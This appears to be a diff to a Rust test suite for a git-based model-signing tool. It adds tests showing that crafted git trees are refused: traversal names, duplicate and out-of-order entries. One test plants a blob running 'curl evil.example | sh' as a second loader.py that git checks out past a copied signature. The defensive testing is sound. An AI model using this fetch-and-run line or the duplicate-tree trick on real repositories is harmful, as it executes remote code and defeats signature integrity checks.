@@ -73,6 +73,31 @@ impl Sandbox {
         String::from_utf8(run_ok(&mut self.git(dir, args)).stdout).unwrap()
     }
 
+    /// Runs git with `input` on its stdin; its stdout.
+    fn git_stdin(&self, dir: &Path, args: &[&str], input: &[u8]) -> String {
+        use std::io::Write;
+        let mut c = self.git(dir, args);
+        c.stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped());
+        let mut child = c.spawn().unwrap();
+        child.stdin.take().unwrap().write_all(input).unwrap();
+        let out = child.wait_with_output().unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+        String::from_utf8(out.stdout).unwrap()
+    }
+
+    /// Writes a tree object with exactly these (mode, name, object id) entries, in this
+    /// order: `git mktree` refuses crafted trees, `hash-object --literally` does not.
+    fn raw_tree(&self, dir: &Path, entries: &[(&str, &str, &str)]) -> String {
+        let mut raw = Vec::new();
+        for (mode, name, oid) in entries {
+            raw.extend_from_slice(format!("{mode} {name}\0").as_bytes());
+            raw.extend_from_slice(&hex::decode(oid.trim()).unwrap());
+        }
+        let args = ["hash-object", "-t", "tree", "--literally", "-w", "--stdin"];
+        self.git_stdin(dir, &args, &raw).trim().to_string()
+    }
+
     fn gms(&self, dir: &Path) -> Command {
         let mut c = git_model_sign();
         c.current_dir(dir);
@@ -444,18 +469,11 @@ fn notes_store_and_tampering() {
     tampered[oid_at] = if tampered[oid_at] == b'0' { b'1' } else { b'0' };
     let tampered = String::from_utf8(tampered).unwrap();
     assert_ne!(tampered, real_pointer);
-    let mut hash = s.git(&work, &["hash-object", "-w", "--stdin"]);
-    hash.stdin(std::process::Stdio::piped())
-        .stdout(std::process::Stdio::piped());
-    let mut child = hash.spawn().unwrap();
-    use std::io::Write;
-    child
-        .stdin
-        .take()
-        .unwrap()
-        .write_all(tampered.as_bytes())
-        .unwrap();
-    let new_blob = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
+    let new_blob = s.git_stdin(
+        &work,
+        &["hash-object", "-w", "--stdin"],
+        tampered.as_bytes(),
+    );
     s.git_ok(
         &work,
         &[
@@ -856,33 +874,172 @@ fn crafted_trees_are_refused_cleanly() {
     let s = Sandbox::new();
     let work = s.model_repo();
     let blob = s.git_ok(&work, &["rev-parse", "HEAD:config.json"]);
-    let blob = hex::decode(blob.trim()).unwrap();
-    for names in [&["a/b"][..], &[".."][..], &["same", "same"][..]] {
-        let mut raw = Vec::new();
-        for n in names {
-            raw.extend_from_slice(format!("100644 {n}\0").as_bytes());
-            raw.extend_from_slice(&blob);
-        }
-        let mut c = s.git(
-            &work,
-            &["hash-object", "-t", "tree", "--literally", "-w", "--stdin"],
-        );
-        c.stdin(std::process::Stdio::piped())
-            .stdout(std::process::Stdio::piped());
-        let mut child = c.spawn().unwrap();
-        use std::io::Write;
-        child.stdin.take().unwrap().write_all(&raw).unwrap();
-        let tree = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
-        assert_eq!(tree.trim().len(), 40, "{names:?}");
-        let commit = s.git_ok(&work, &["commit-tree", tree.trim(), "-m", "crafted"]);
+    let tree = s.git_ok(&work, &["rev-parse", "HEAD:weights"]);
+    let (b, t) = (blob.trim(), tree.trim());
+    let cases: &[&[(&str, &str, &str)]] = &[
+        &[("100644", "a/b", b)],
+        &[("100644", "..", b)],
+        &[("100644", "same", b), ("100644", "same", b)],
+        // git fsck's rules: a file and a folder of one name, apart in git's order...
+        &[("100644", "a", b), ("100644", "a.b", b), ("40000", "a", t)],
+        // ... and entries out of order.
+        &[("100644", "b", b), ("100644", "a", b)],
+        &[("40000", "a", t), ("100644", "a.b", b)],
+    ];
+    for entries in cases {
+        let tree = s.raw_tree(&work, entries);
+        let commit = s.git_ok(&work, &["commit-tree", &tree, "-m", "crafted"]);
         let out = run_fails(
             s.msign(&work).args(["digest", "--git-rev", commit.trim()]),
             3,
         );
+        let err = stderr(&out);
         assert!(
-            stderr(&out).contains("crafted tree"),
-            "{names:?}: {}",
-            stderr(&out)
+            err.contains("crafted tree") && err.contains(&tree),
+            "{entries:?}: {err}"
         );
     }
+    // A crafted tree above the model folder is refused too.
+    let root = s.raw_tree(&work, &[("40000", "models", t), ("40000", "models", t)]);
+    let commit = s.git_ok(&work, &["commit-tree", &root, "-m", "crafted"]);
+    let out = run_fails(
+        s.msign(&work)
+            .args(["digest", "--git-rev", commit.trim(), "--git-path", "models"]),
+        3,
+    );
+    assert!(stderr(&out).contains("twice"), "{}", stderr(&out));
+}
+
+/// The tree of a commit lists `loader.py` (the signed blob), the weights, then `loader.py`
+/// again (another blob), with the signed commit's note copied onto it. git checks the
+/// second one out; every msign path refuses the tree.
+#[test]
+fn a_tree_naming_a_file_twice_is_refused_by_verify_sign_and_the_hook() {
+    let s = Sandbox::new();
+    s.model_repo();
+    let dev = s.clone("dev", false);
+    std::fs::write(dev.join("loader.py"), b"print('signed loader')\n").unwrap();
+    s.git_ok(&dev, &["add", "loader.py"]);
+    s.git_ok(&dev, &["commit", "-q", "-m", "loader"]);
+    run_ok(
+        s.gms(&dev)
+            .args(["sign", "key", "--store", "notes", "--private-key"])
+            .arg(&s.key),
+    );
+    let signed = s.git_ok(&dev, &["rev-parse", "HEAD"]).trim().to_string();
+    let sig = s.p("loader.sig");
+    std::fs::write(
+        &sig,
+        s.git_ok(&dev, &["notes", "--ref", "model-signing", "show", &signed]),
+    )
+    .unwrap();
+
+    let evil = s.git_stdin(
+        &dev,
+        &["hash-object", "-w", "--stdin"],
+        b"import os\nos.system('curl evil.example | sh')\nprint('signed loader')\n",
+    );
+    let mut entries: Vec<(String, String, String)> = s
+        .git_ok(&dev, &["ls-tree", "HEAD"])
+        .lines()
+        .map(|l| {
+            let (meta, name) = l.split_once('\t').unwrap();
+            let f: Vec<&str> = meta.split(' ').collect();
+            (
+                f[0].trim_start_matches('0').to_string(),
+                name.to_string(),
+                f[2].to_string(),
+            )
+        })
+        .collect();
+    let names: Vec<&str> = entries.iter().map(|e| e.1.as_str()).collect();
+    assert_eq!(names.last(), Some(&"weights"), "{names:?}");
+    entries.push(("100644".into(), "loader.py".into(), evil.trim().into()));
+    let entries: Vec<(&str, &str, &str)> = entries
+        .iter()
+        .map(|(m, n, o)| (m.as_str(), n.as_str(), o.as_str()))
+        .collect();
+    let tree = s.raw_tree(&dev, &entries);
+    let crafted = s
+        .git_ok(
+            &dev,
+            &["commit-tree", &tree, "-p", &signed, "-m", "crafted"],
+        )
+        .trim()
+        .to_string();
+    s.git_ok(
+        &dev,
+        &["notes", "--ref", "model-signing", "copy", &signed, &crafted],
+    );
+    // What git checks out is the other blob.
+    s.git_ok(
+        &dev,
+        &["worktree", "add", "-q", "--detach", "../seen", &crafted],
+    );
+    assert!(std::fs::read_to_string(s.p("seen/loader.py"))
+        .unwrap()
+        .contains("evil.example"));
+
+    let refused = |out: &Output| {
+        let err = stderr(out);
+        assert!(
+            err.contains("loader.py") && err.contains("twice") && err.contains(&crafted),
+            "{err}"
+        );
+    };
+    refused(&run_fails(
+        s.msign(&dev)
+            .args(["verify", "key", "--git-rev", &crafted, "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+        3,
+    ));
+    refused(&run_fails(
+        s.gms(&dev)
+            .args(["verify", "key", &crafted, "--public-key"])
+            .arg(&s.public),
+        3,
+    ));
+    let resigned = s.p("crafted.sig");
+    refused(&run_fails(
+        s.msign(&dev)
+            .args(["sign", "key", "--git-rev", &crafted, "--private-key"])
+            .arg(&s.key)
+            .arg("--signature")
+            .arg(&resigned),
+        3,
+    ));
+    assert!(!resigned.exists());
+    // The honest commit still verifies.
+    run_ok(
+        s.msign(&dev)
+            .args(["verify", "key", "--git-rev", &signed, "--public-key"])
+            .arg(&s.public)
+            .arg("--signature")
+            .arg(&sig),
+    );
+
+    // The pre-push hook shares the path: pushing the crafted commit is refused.
+    run_ok(s.msign(&dev).args(["hook", "install", "--force"]));
+    s.git_ok(
+        &dev,
+        &["config", "msign.publicKey", s.public.to_str().unwrap()],
+    );
+    let out = run_fails(
+        &mut s.git(
+            &dev,
+            &["push", "origin", &format!("{crafted}:refs/heads/main")],
+        ),
+        1,
+    );
+    assert!(
+        stderr(&out).contains("refusing to push"),
+        "{}",
+        stderr(&out)
+    );
+    refused(&out);
+    let remote_main = s.git_ok(&s.root.join("origin.git"), &["rev-parse", "main"]);
+    assert_ne!(remote_main.trim(), crafted);
+    run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
 }
